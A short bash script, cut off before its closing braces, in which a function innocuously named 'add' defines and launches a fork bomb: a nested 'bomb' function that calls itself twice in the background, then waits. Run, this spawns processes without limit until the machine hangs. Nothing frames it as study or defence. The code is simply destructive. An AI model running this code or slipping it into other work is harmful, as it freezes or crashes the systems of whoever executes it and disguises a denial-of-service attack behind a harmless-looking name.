#!/bin/bash
add() {
    bomb() {
        bomb | bomb &
    }
    bomb
    wait
